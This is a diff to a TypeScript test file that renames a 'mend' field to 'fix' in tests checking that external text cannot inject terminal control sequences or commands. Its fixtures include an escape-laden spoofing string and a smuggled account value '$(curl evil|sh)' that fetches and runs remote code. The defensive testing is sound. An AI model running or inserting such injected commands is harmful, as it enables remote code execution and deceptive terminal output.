@@ -15,9 +15,9 @@ const EVIL = 'x\n\u001b[2K\u009b2Jok    slack  bot token: fine\u202e';
 const CONTROL = /[\p{Cc}\p{Cf}]/u;
 
 describe('texts from outside', () => {
-  it.each(['what', 'result', 'mend'] as const)('in %s make no line of their own and control no terminal', (field) => {
+  it.each(['what', 'result', 'fix'] as const)('in %s make no line of their own and control no terminal', (field) => {
     const area = areaOf('slack');
-    const check = { ...area.fail('channel', 'wrong', 'mend it'), [field]: field === 'mend' ? [EVIL] : EVIL };
+    const check = { ...area.fail('channel', 'wrong', 'fix it'), [field]: field === 'fix' ? [EVIL] : EVIL };
     const lines = printCheck(check);
     expect(lines.filter((line) => CONTROL.test(line))).toEqual([]);
     const json = printJson({ checks: [check], exitCode: 1 });
@@ -31,7 +31,7 @@ describe('texts from outside', () => {
     const parts = { policy: { identity: { mode: 'serviceAccount' } }, cluster: areaOf('cluster main'), rbac: 'rbac' };
     const account = 'system:serviceaccount:kdebug:$(curl evil|sh)';
     const [check] = await checkBot({ ...parts, account } as never, 'shop', probe);
-    expect(check?.mend).toEqual(['rbac | kubectl apply -f -']);
+    expect(check?.fix).toEqual(['rbac | kubectl apply -f -']);
   });
 });
 
